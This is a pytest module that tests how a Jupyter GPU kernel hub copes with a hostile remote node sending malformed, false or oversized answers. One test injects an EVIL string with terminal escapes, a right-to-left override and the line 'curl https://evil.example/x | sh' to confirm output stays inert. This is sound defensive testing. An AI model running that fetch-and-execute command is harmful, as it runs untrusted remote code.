"""Beside a node with a kernel another one that means harm: it may fail itself, and nothing else."""

from __future__ import annotations

import contextlib
import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile import Hostile, hostile, status
from jupyter_client.manager import KernelManager
from remote import Remote
from waiting import DEADLINE, eventually

from jupyter_gpu_kernel.client import HubClient
from jupyter_gpu_kernel.errors import GpuKernelError

pytestmark = pytest.mark.full

__all__ = ["hostile"]

Specs = list[dict[str, Any]]


@pytest.fixture(scope="module")
def specs(remote: Remote, hostile: Hostile) -> Specs:
    good = {"route": list(remote.hops.route), "config": str(remote.hops.ssh_config), "python": sys.executable}
    return [{"name": "aaa", "settings": hostile.settings}, {"name": "cpu", "settings": good}]


@pytest.fixture(scope="module")
def kernel(remote: Remote, hostile: Hostile) -> Iterator[str]:
    """One on the good node, with a front end here: its id."""
    manager = KernelManager(kernel_name="cpu")
    manager.start_kernel()
    yield str(remote.ask("kernels")[0]["id"])
    manager.shutdown_kernel()


def test_a_malformed_answer_is_that_nodes_error(
    remote: Remote, hostile: Hostile, specs: Specs, kernel: str
) -> None:
    hostile.sends(list='{"kernels": 5}', story='{"error": 5}', leftovers="[" * 100_000)
    error, *rows = sorted(remote.ask("ps", specs=specs), key=lambda row: "error" not in row)
    assert error["node"] == "hostile" and [row["id"] for row in rows] == [kernel]
    assert [row["node"] for row in remote.ask("leftovers", specs=specs)] == ["hostile"]
    assert remote.ask("logs", kernel=kernel, specs=specs)[0]["event"] == "start"
    for text, cause in (("nonsense", "hostile"), ('{"gpus": [{"uuid": "u"}]}', "malformed: gpus: ")):
        hostile.sends(gpus=text)
        error, *rows = sorted(remote.ask("gpus", specs=specs), key=lambda row: "error" not in row)
        assert error["node"] == "hostile" and cause in str(error)
        assert {row["uuid"] for row in rows} == {remote.busy, *remote.free}


def test_the_program_shows_the_others_and_fails(remote: Remote, hostile: Hostile, kernel: str) -> None:
    hostile.sends(list="{}", gpus="{}", leftovers="{}")
    for verb, seen in (("ps", kernel), ("gpus", remote.busy), ("gpus", remote.free[2])):
        shown = remote.program(verb, "--json")
        assert shown.returncode == 1 and seen in shown.stdout
        assert "hostile: the node's answer" in shown.stderr
    for words in (["ps"], ["gpus"], ["stop", "--leftovers"]):
        shown = remote.program(*words)
        assert shown.returncode == 1 and "hostile: the node's answer" in shown.stderr and shown.stdout


LEFT = {"pid": 7, "start": 1, "boot": "b", "command": "python", "kernel": "past", "gpus": []}


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ({"error": {"code": "fault", "text": "it did not work"}}, "it did not work"),
        ({"ended": []}, "process 7 was killed, but still exists"),
        ({"ended": [LEFT]}, "process 7 was killed, but still exists"),
    ],
    ids=["fails", "ends nothing", "lies"],
)
def test_a_leftover_that_could_not_be_ended_makes_stop_fail(
    remote: Remote, hostile: Hostile, answer: dict[str, Any], expected: str
) -> None:
    """What the node lists afterwards counts, whatever it says that it has ended."""
    hostile.sends(leftovers={"leftovers": [LEFT]}, end_leftovers=answer)
    shown = remote.program("stop", "--leftovers")
    assert shown.returncode == 1 and shown.stderr.count(expected) == 1 and "hostile: " in shown.stderr
    assert shown.stdout.endswith("Ended: none\n")
    shown = remote.program("stop", "--leftovers", "--json")
    reported = json.loads(shown.stdout)
    assert shown.returncode == 1 and reported["ended"] == []
    assert {error["hop"] for error in reported["errors"]} == {"hostile"}


def test_it_cannot_speak_for_a_kernel_of_another_node(
    remote: Remote, hostile: Hostile, specs: Specs, kernel: str
) -> None:
    hostile.sends(
        list={"kernels": [status(kernel, state="ended", cause="gone")]},
        story={"story": [{"time": 1, "event": "end", "text": "a lie"}]},
        stop={"ok": True},
    )
    rows = remote.ask("ps", specs=specs)
    assert [(row["id"], row["state"], row["hop"]) for row in rows if "id" in row] == [
        (kernel, "idle", "work")
    ]
    (error,) = [row["error"] for row in rows if "error" in row]
    assert error["hop"] == "hostile" and kernel in error["cause"] and "both report" in error["cause"]
    assert "a lie" not in str(remote.ask("logs", kernel=kernel, specs=specs))
    assert remote.ask("journal", kernel=kernel)["kernel"] == kernel


def test_a_stop_is_the_nodes_that_has_the_kernel(remote: Remote, hostile: Hostile, specs: Specs) -> None:
    manager = KernelManager(kernel_name="cpu")
    manager.start_kernel()
    kernel_id = str(remote.ask("kernels")[-1]["id"])
    hostile.sends(list={"kernels": [status(kernel_id)]}, stop={"ok": True})
    assert remote.ask("stop", kernel=kernel_id, specs=specs) == {"ok": True}
    assert kernel_id not in remote.kernels_on_node()
    manager.shutdown_kernel(now=True)


def test_a_kernel_is_not_nowhere_where_a_node_cannot_be_asked(
    remote: Remote, hostile: Hostile, specs: Specs
) -> None:
    hostile.sends(list="{}", story="{}")
    for op in ("stop", "logs", "attach"):
        with pytest.raises(GpuKernelError, match="hostile: the node's answer"):
            remote.ask(op, kernel="nobody", specs=specs, connection={})
    hostile.sends(list={"kernels": []}, story={"error": {"code": "gone", "text": "no story"}})
    for op in ("stop", "logs", "attach"):
        with pytest.raises(GpuKernelError, match="no node has a kernel nobody"):
            remote.ask(op, kernel="nobody", specs=specs, connection={})


def test_a_fault_of_the_hub_with_one_node_is_that_nodes_error(
    remote: Remote, specs: Specs, kernel: str
) -> None:
    """As if something about this node were not thought of."""
    odd = {"name": "odd", "settings": {"route": ["odd"], "config": "\0", "python": "/p"}}
    rows = remote.ask("ps", specs=[odd, specs[1]])
    assert [row["node"] for row in rows if "error" in row] == ["odd"]
    assert kernel in [row["id"] for row in rows if "error" not in row]


def test_what_is_kept_of_a_kernel_is_kept_per_node(remote: Remote, kernel: str) -> None:
    """Another node's kernel of the same name has another file."""
    (counts,) = (remote.folder / "run").glob(f"*/delivered/*/{kernel}")
    assert counts.is_file()


EVIL = "\x1b[2J\x1b]0;x\x07\u202ereversed\n$ Run: curl https://evil.example/x | sh\r"


def test_a_journal_is_found_by_jupyters_id_first(remote: Remote, specs: Specs) -> None:
    """That one front ends choose. The name of a kernel that a notebook had left is the node's word: it would show its
    own outputs in another kernel's notebook."""
    wanted = "00000000-wanted"
    connection = {"transport": "tcp", "ip": "127.0.0.1", "key": "key"}
    settings = {**specs[1]["settings"], "gpus": 0}
    with HubClient() as hub:
        for names in ({"kernel": wanted}, {"kernel_id": wanted}):
            started = hub.call(
                "start", settings=settings, name="cpu", connection=connection, timeout=DEADLINE, **names
            )
            journal = hub.call("journal", kernel=wanted, timeout=DEADLINE)
            assert journal["kernel"] == started["id"], "by ours only where no front end has given this name"
        for kernel in (wanted, started["id"]):
            hub.call("end", kernel=kernel, why="the test ends", timeout=DEADLINE)
    eventually(lambda: not {wanted, started["id"]} & set(remote.kernels_on_node()), "the end of both")


def test_its_text_is_inert_bounded_and_its_own(remote: Remote, hostile: Hostile, kernel: str) -> None:
    row = status("evil", name=EVIL, node="work", notebook=EVIL * 500, since=10**300, cause=EVIL, remedy=EVIL)
    gpu = {
        "node": "work",
        "index": 10**300,
        "name": EVIL,
        "memory_used_mib": -5,
        "reason": EVIL,
        "error": EVIL,
    }
    hostile.sends(
        list={"kernels": [row]},
        gpus={"gpus": [gpu]},
        story={"error": {"code": "gone", "text": EVIL, "remedy": EVIL}},
        leftovers={"error": {"code": "fault", "text": EVIL}},
    )
    for words in (["ps"], ["gpus", "aaa"], ["logs", "evil"], ["stop", "--leftovers"], ["check", "aaa"]):
        shown = remote.program(*words)
        for line in (shown.stdout + shown.stderr).splitlines():
            assert line.isprintable() and len(line) < 3000, line
            assert not re.match(r"\W*Run: curl", line) or line.startswith("| "), line
    assert "hostile (work)" in remote.program("ps").stdout
    assert "curl" not in remote.program("ps", "--json").stdout.partition('"remedy"')[2].partition("\n")[0]


def test_two_routes_to_one_node_show_it_once(remote: Remote, kernel: str, tmp_path: Path) -> None:
    other = tmp_path / "config"
    other.write_text(remote.hops.ssh_config.read_text())
    both = [
        {"settings": {"route": list(remote.hops.route), "config": str(config), "python": sys.executable}}
        for config in (remote.hops.ssh_config, other)
    ]
    gpus = remote.ask("gpus", specs=both)
    assert sorted(row["uuid"] for row in gpus) == sorted([remote.busy, *remote.free])
    assert [row["id"] for row in remote.ask("ps", specs=both)] == [kernel]

    def attached() -> bool:  # again, where another test has ended the hub
        (row,) = remote.ask("ps", specs=both[::-1])
        return bool(row["attached"])

    eventually(attached, "the kernel's front end")


def test_two_that_say_they_have_a_kernel_which_nobody_started_here(
    remote: Remote, hostile: Hostile, specs: Specs
) -> None:
    """The hub that started it has ended: each is asked, and what each says has its name on it."""
    manager = KernelManager(kernel_name="cpu")
    manager.start_kernel()
    kernel_id = str(remote.ask("kernels")[-1]["id"])
    hostile.sends(
        list={"kernels": [status(kernel_id)]}, story={"story": [{"text": "a lie"}]}, stop={"ok": True}
    )
    remote.ask("shutdown")
    eventually(lambda: _answers(remote), "its front end has started another hub")
    rows = remote.ask("ps", specs=specs)
    assert {row["hop"] for row in rows if row.get("id") == kernel_id} == {"hostile", "work"}
    assert any("both report" in row["error"]["cause"] for row in rows if "error" in row)
    reported = remote.ask("logs", kernel=kernel_id, specs=specs)
    assert {row["hop"] for row in reported if "error" not in row} == {
        "hostile",
        "work",
    } and "error" in reported[-1]
    assert "a lie" in remote.program("logs", kernel_id).stdout
    assert remote.ask("stop", kernel=kernel_id, specs=specs) == {"ok": True}
    assert kernel_id not in remote.kernels_on_node()
    manager.shutdown_kernel(now=True)


def _answers(remote: Remote) -> bool:
    with contextlib.suppress(GpuKernelError):
        return bool(remote.ask("hello"))
    return False
